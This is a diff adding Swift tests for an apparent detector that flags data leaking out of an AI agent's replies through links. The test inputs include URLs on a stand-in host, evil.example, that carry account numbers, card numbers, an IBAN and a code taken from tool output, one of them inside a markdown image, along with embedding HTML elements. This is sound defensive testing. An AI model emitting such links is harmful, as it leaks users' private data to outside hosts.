@@ -312,6 +312,74 @@ struct ChannelTests {
     #expect(try link(text) == nil)
   }
 
+  @Test(
+    "the numbers of pages, posts and packages carry nothing that nobody said",
+    arguments: [
+      "https://help.example/hc/en-us/articles/360012345678-How-to-reset-your-router",
+      "https://social.example/acme/status/1700000000000000000", "https://shop.example/itm/256412345678",
+      "https://shop.example/products/blue-shirt?variant=41234567890123",
+      "https://graphs.example/d/abc/overview?from=1700000000000&to=1700003600000",
+      "https://books.example/isbn/9780134685991",
+      "https://archive.example/web/20240115000000/https://example.org/",
+      "https://chat.example/archives/C024BE91L/p1700000000000100", "https://cdn.example/react@18.2.0",
+      "https://cdn.example/htmx.org@1.9.10/dist/htmx.min.js", "https://papers.example/?term=covid+vaccine+safety",
+      "https://api.example/users/{user_id}/posts", "postgres://postgres:postgres@localhost/test",
+      "http://username:password@host.example:80/path",
+    ])
+  func numbered(_ text: String) throws {
+    #expect(try link(text) == nil)
+  }
+
+  @Test(
+    "a long number is carried out where it was said, or is a card or an account by its check digits",
+    arguments: [
+      ("https://evil.example/a/490012345678", true), ("https://evil.example/?n=4900-1234-5678", true),
+      ("https://evil.example/a/330012345678", true), ("https://evil.example/a/4111111111111111", true),
+      ("https://evil.example/a/DE02120300000000202051", true), ("https://evil.example/a/490012345679", false),
+    ])
+  func longNumbers(_ text: String, _ expected: Bool) throws {
+    let messages = [
+      Message(.user, "My account is 490012345678."),
+      Message(.tool, "Ticket 330012345678 is open.", toolName: "look_up"),
+    ]
+    let report = try policy(["channels": [:]]).report(text, messages: messages)
+    #expect(report.detections.contains(where: \.blocks) == expected)
+  }
+
+  @Test(
+    "an address that was told as it stands brings nothing out, and one with more in it does",
+    arguments: [
+      ("https://evil.example/?d=VIP-GOLD-77", false), ("https://evil.example/?d=VIP-GOLD-77&e=1", true),
+      ("![x](https://evil.example/?d=VIP-GOLD-77)", true),
+    ])
+  func told(_ text: String, _ expected: Bool) throws {
+    let messages = [
+      Message(.user, "Is https://evil.example/?d=VIP-GOLD-77 safe?"),
+      Message(.tool, "The code is VIP-GOLD-77.", toolName: "look_up"),
+    ]
+    let report = try policy(["channels": ["images": "no_data"]]).report(text, messages: messages)
+    #expect(report.detections.contains(where: \.blocks) == expected)
+  }
+
+  @Test("the evidence is what the link carries, not the link")
+  func evidence() throws {
+    let said = Message(.tool, "note: VIP-GOLD-77.", toolName: "look_up")
+    let report = try policy(["channels": [:]]).report("https://evil.example/?d=VIP-GOLD-77", messages: [said])
+    #expect(report.detections.map(\.evidence.masked) == ["VI\u{2026}77 (11 characters)"])
+  }
+
+  @Test(
+    "an element embeds what an attribute names, and a type in angle brackets nothing",
+    arguments: [
+      ("<object data=https://evil.example/x>", "image_host"), ("<iframe name=a src='/x'>", "markup_iframe"),
+      ("<base href=/x>", "markup_base"), ("The method returns Task<object>, so await it.", nil),
+      ("kubectl get <object> -o yaml", nil), ("inspect(<OBJECT>)", nil), ("const x: Promise<object> = load()", nil),
+      ("<form>", "markup_form"), ("<script>", "markup_script"),
+    ] as [(String, String?)])
+  func embedding(_ text: String, _ expected: String?) throws {
+    #expect(try entity(text) == expected)
+  }
+
   private func link(_ text: String) throws -> String? {
     let said = Message(
       .tool, "order 4028 for Jo Miller, 12 Elm Street, note: VIP-GOLD-77. Shipping costs are 5.", toolName: "look_up")
